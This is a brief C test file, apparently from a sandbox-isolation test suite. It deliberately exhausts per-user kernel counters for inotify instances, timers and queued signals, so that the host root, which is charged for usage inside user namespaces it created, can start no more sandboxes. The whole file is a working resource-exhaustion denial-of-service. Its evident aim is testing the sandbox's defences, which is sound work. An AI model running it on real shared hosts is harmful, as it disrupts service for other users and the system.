/* Uses up what the kernel counts for each user: inotify instances, timers, signals that wait. Whoever made a user namespace pays as well
 * for what is used in it.
 * goal: the host's root, who has made all sandboxes, gets no more of them
 * stopped by: a user namespace that the slot's own id has made
 * first: ids
 * second: -
 * alone: the kernel has one account for each user, and no other limit on these
 */
#include "attack.h"
#include <sys/inotify.h>
int main(void) {
    sigset_t all;
    sigfillset(&all);
    sigprocmask(SIG_BLOCK, &all, 0);
    struct sigevent none = { .sigev_notify = SIGEV_NONE };
    timer_t timer;
    while (inotify_init1(IN_CLOEXEC) >= 0) { }
    for (int i = 0; i < 20000 && timer_create(CLOCK_MONOTONIC, &none, &timer) == 0; i++) { }
    for (int i = 0; i < 20000 && sigqueue(getpid(), SIGRTMIN, (union sigval){ 0 }) == 0; i++) { }
    /* Meanwhile somebody looks from outside. */
    sleep(1);
    return tried();
}
